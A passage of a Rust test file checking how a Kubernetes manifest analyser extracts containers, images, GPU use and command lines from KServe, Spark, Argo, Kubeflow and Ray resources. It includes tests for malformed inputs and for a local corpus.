            row("spec.predictor.model", "model", None, false),
            row("spec.predictor.pytorch", "pytorch", Some("pt-serve"), true),
            row("spec.transformer.containers[0]", "t", Some("trans"), false),
            row("spec.explainer.containers[0]", "e", Some("expl"), false),
            row("spec.containers[0]", "kserve-container", Some("rt"), false),
            row("spec.containers[0]", "c", Some("rt2"), false),
        ]
    );
    assert_eq!(
        texts(&x.runnables[2]),
        vec![t(TextRole::Env, "spec.predictor.model.env[0].value", "v")]
    );
}

/// KServe LLMInferenceService and LLMInferenceServiceConfig (v1alpha1, KServe v0.16 CRDs):
/// the same five pod specs, the router's scheduler (the llm-d endpoint picker) among them.
#[test]
fn kserve_llm_inference_services_and_configs() {
    let places = r#"
  template:
    containers: [{name: main, image: vllm, command: [vllm, serve, /mnt/models], resources: {limits: {nvidia.com/gpu: 1}}}]
  worker:
    containers: [{name: main, image: vllm-w}]
  prefill:
    template:
      initContainers: [{name: warm, image: alpine}]
      containers: [{name: main, image: vllm-p}]
    worker:
      containers: [{name: main, image: vllm-pw}]
  router:
    route: {}
    gateway: {}
    scheduler:
      pool: {spec: {targetPortNumber: 8000}}
      template:
        containers:
        - name: main
          image: ghcr.io/llm-d/llm-d-inference-scheduler:v0.2.0
          args: [--poolName, "{{ ChildName .ObjectMeta.Name `-inference-pool` }}", --grpcPort, "9002"]
"#;
    let objs = parse(&format!(
        "apiVersion: serving.kserve.io/v1alpha1\nkind: LLMInferenceService\nmetadata: {{name: llm, namespace: serve}}\nspec:\n  model: {{uri: hf://Qwen/Qwen2.5-7B-Instruct}}{places}---\napiVersion: serving.kserve.io/v1alpha1\nkind: LLMInferenceServiceConfig\nmetadata: {{name: kserve-config-llm, namespace: kserve}}\nspec:{places}"
    ));
    let x = extract(&objs);
    let one = vec![
        row("spec.template.containers[0]", "main", Some("vllm"), true),
        row("spec.worker.containers[0]", "main", Some("vllm-w"), false),
        row(
            "spec.prefill.template.initContainers[0]",
            "warm",
            Some("alpine"),
            false,
        ),
        row(
            "spec.prefill.template.containers[0]",
            "main",
            Some("vllm-p"),
            false,
        ),
        row(
            "spec.prefill.worker.containers[0]",
            "main",
            Some("vllm-pw"),
            false,
        ),
        row(
            "spec.router.scheduler.template.containers[0]",
            "main",
            Some("ghcr.io/llm-d/llm-d-inference-scheduler:v0.2.0"),
            false,
        ),
    ];
    assert_eq!(brief(&x), [one.clone(), one].concat());
    let kinds: Vec<&str> = x.runnables.iter().map(|r| r.owner.kind.as_str()).collect();
    assert_eq!(kinds[5], "LLMInferenceService");
    assert_eq!(kinds[6], "LLMInferenceServiceConfig");
    for r in [&x.runnables[5], &x.runnables[11]] {
        assert_eq!(
            texts(r),
            vec![t(
                TextRole::CommandLine,
                "spec.router.scheduler.template.containers[0].args[0]",
                "--poolName {{ ChildName .ObjectMeta.Name `-inference-pool` }} --grpcPort 9002"
            )]
        );
    }
    // A scheduler without a template (the controller's default) and a pool alone: nothing.
    let objs = parse(
        r#"
apiVersion: serving.kserve.io/v1alpha1
kind: LLMInferenceServiceConfig
metadata: {name: kserve-config-llm-router, namespace: kserve}
spec:
  router:
    scheduler:
      pool: {ref: {name: shared-pool}}
"#,
    );
    assert_eq!(brief(&extract(&objs)), vec![]);
}

#[test]
fn spark_driver_and_executor() {
    let objs = parse(
        r#"
apiVersion: v1
kind: ConfigMap
metadata: {name: spark-cm, namespace: spark}
data: {conf: spark-conf-data}
---
apiVersion: sparkoperator.k8s.io/v1beta2
kind: SparkApplication
metadata: {name: pi, namespace: spark}
spec:
  type: Scala
  image: spark:3.5
  mainClass: org.apache.spark.examples.SparkPi
  mainApplicationFile: local:///opt/spark/examples/jars/spark-examples.jar
  arguments: ["1000", "--pool", "p:1"]
  driver:
    env: [{name: D, value: dv}]
    configMaps: [{name: spark-cm, path: /etc/c}]
  executor:
    image: spark-exec:3.5
    gpu: {name: nvidia.com/gpu, quantity: 1}
"#,
    );
    let x = extract(&objs);
    assert_eq!(
        brief(&x),
        vec![
            row("spec.driver", "driver", Some("spark:3.5"), false),
            row("spec.executor", "executor", Some("spark-exec:3.5"), true),
        ]
    );
    assert_eq!(
        texts(&x.runnables[0]),
        vec![
            t(
                TextRole::CommandLine,
                "spec.mainClass",
                "org.apache.spark.examples.SparkPi local:///opt/spark/examples/jars/spark-examples.jar 1000 --pool p:1"
            ),
            t(TextRole::Env, "spec.driver.env[0].value", "dv"),
            t(TextRole::ConfigMap, "spec.driver.configMaps[0].name", "spark-conf-data"),
        ]
    );
    let cl = command_line(&x.runnables[0]);
    assert_eq!(
        cl.field_at(cl.text.find("p:1").unwrap()),
        "spec.arguments[2]"
    );
    assert!(texts(&x.runnables[1]).is_empty());
}

#[test]
fn malformed_shapes_do_not_panic() {
    let objs = parse(
        r#"
apiVersion: v1
kind: Pod
metadata: {name: a}
spec:
  containers: "oops"
  initContainers: [1, null, "x", {name: ok, image: 5, args: [1, null, {a: b}, [x], true], command: "sh -c x", env: "no", envFrom: [{configMapRef: 3}], volumeMounts: "x", lifecycle: {postStart: {exec: {command: [null]}}}, resources: {limits: "x"}}]
  volumes: {a: b}
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: b}
spec: {template: {spec: "nope"}}
---
apiVersion: argoproj.io/v1alpha1
kind: Workflow
metadata: {name: c}
spec:
  templates: [null, 3, {name: t, container: "x", script: [1], containerSet: {containers: {a: 1}}, initContainers: "y", inputs: {parameters: "z"}, resource: {manifest: {a: 1}}}]
  arguments: [1]
  volumes: "v"
---
apiVersion: argoproj.io/v1alpha1
kind: CronWorkflow
metadata: {name: d}
spec: {workflowSpec: [1, 2]}
---
deploymentSpec: {executors: [1, 2]}
pipelineInfo: {name: bad}
---
deploymentSpec: {executors: {e: {container: "x"}, f: 3}}
pipelineInfo: {name: bad2}
---
apiVersion: kubeflow.org/v1
kind: TFJob
metadata: {name: e}
spec: {tfReplicaSpecs: "x"}
---
apiVersion: kubeflow.org/v1beta1
kind: Experiment
metadata: {name: f}
spec: {trialTemplate: {trialSpec: {kind: 5}}}
---
apiVersion: kubeflow.org/v1beta1
kind: Experiment
metadata: {name: g}
spec: {trialTemplate: {trialSpec: "not an object"}}
---
apiVersion: ray.io/v1
kind: RayJob
metadata: {name: h}
spec: {entrypoint: {a: 1}, rayClusterSpec: {headGroupSpec: {rayStartParams: {num-gpus: {x: 1}}, template: {spec: {containers: [{}]}}}, workerGroupSpecs: "w"}}
---
apiVersion: sparkoperator.k8s.io/v1beta2
kind: SparkApplication
metadata: {name: i}
spec: {driver: "d", executor: {gpu: "x"}, arguments: "y"}
---
apiVersion: trainer.kubeflow.org/v1alpha1
kind: TrainJob
metadata: {name: j}
spec: {trainer: [1], initializer: "x"}
---
apiVersion: serving.kserve.io/v1beta1
kind: InferenceService
metadata: {name: k}
spec: {predictor: {containers: [{name: c, env: [{name: X, valueFrom: {configMapKeyRef: "x"}}]}], pytorch: 7}}
"#,
    );
    let x = extract(&objs);
    let got = fields(&x);
    assert_eq!(
        got,
        vec![
            "spec.initContainers[3]",
            "spec.rayClusterSpec.headGroupSpec.template.spec.containers[0]",
            "spec.executor",
            "spec.predictor.containers[0]",
        ]
    );
    let r = &x.runnables[0];
    assert_eq!(r.image.as_deref(), Some("5"));
    assert_eq!(
        texts(r),
        vec![t(
            TextRole::CommandLine,
            "spec.initContainers[3].command",
            "sh -c x 1 true"
        )]
    );
    assert_eq!(
        command_line(r).parts[1],
        (8, "spec.initContainers[3].args[0]".to_string())
    );
    assert!(!x.notes.is_empty());
}

#[test]
fn unknown_kinds_yield_nothing() {
    let objs = parse(
        r#"
apiVersion: example.com/v1
kind: Widget
metadata: {name: w}
spec: {template: {spec: {containers: [{name: c, image: i}]}}}
"#,
    );
    assert!(extract(&objs).runnables.is_empty());
}

#[test]
fn fixtures_directory_files_extract() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/extract");
    let mut seen = 0;
    for f in files_under(&dir) {
        let text = std::fs::read_to_string(&f).unwrap();
        let objs = parse(&text);
        let x = extract(&objs);
        assert!(!x.runnables.is_empty(), "{}", f.display());
        seen += 1;
    }
    assert!(seen >= 1);
}

fn files_under(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(rd) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in rd.flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else if matches!(
                p.extension().and_then(|e| e.to_str()),
                Some("yaml" | "yml" | "json")
            ) {
                out.push(p);
            }
        }
    }
    out.sort();
    out
}

#[test]
fn real_corpus_extracts_without_panicking() {
    let root = Path::new("/work/shared/corpus");
    if !root.is_dir() {
        eprintln!("no corpus at {}; skipped", root.display());
        return;
    }
    let mut files = 0;
    let mut files_with = 0;
    let mut per_kind: BTreeMap<String, (usize, usize)> = BTreeMap::new();
    for sub in [
        "argo-examples",
        "kfp",
        "kuberay",
        "notebooks-training",
        "kubeflow-platform",
    ] {
        for f in files_under(&root.join(sub)) {
            let Ok(text) = std::fs::read_to_string(&f) else {
                continue;
            };
            let mut set = ManifestSet::default();
            parse_text(
                &text,
                &f.to_string_lossy(),
                &ReadOptions::default(),
                &mut set,
            );
            let x = extract(&set.objects);
            files += 1;
            if !x.runnables.is_empty() {
                files_with += 1;
            }
            for o in set
                .objects
                .iter()
                .filter(|o| KINDS.contains(&o.kind.as_str()))
            {
                let e = per_kind.entry(o.kind.clone()).or_default();
                e.0 += 1;
                e.1 += x
                    .runnables
                    .iter()
                    .filter(|r| std::ptr::eq(r.owner, o))
                    .count();
            }
            for r in &x.runnables {
                assert!(
                    !r.field.is_empty() || r.owner.kind == "Pod",
                    "{}: {r:?}",
                    f.display()
                );
                for t in &r.texts {
                    assert!(!t.parts.is_empty());
                    assert!(t.parts.iter().all(|(o, _)| *o <= t.text.len()));
                }
            }
        }
    }
    eprintln!("{files_with}/{files} corpus files yield runnables");
    for (k, (objects, runnables)) in &per_kind {
        eprintln!("{k:>24}: {objects:>4} objects, {runnables:>5} runnables");
    }
    assert!(files >= 100, "{files}");
    assert!(files_with * 2 >= files, "{files_with}/{files}");
    for k in [
        "Workflow",
        "PipelineSpec",
        "RayCluster",
        "Notebook",
        "TFJob",
        "Experiment",
    ] {
        let (objects, runnables) = per_kind.get(k).copied().unwrap_or_default();
        assert!(
            objects > 0 && runnables > 0,
            "{k}: {objects} objects, {runnables} runnables"
        );
    }
}
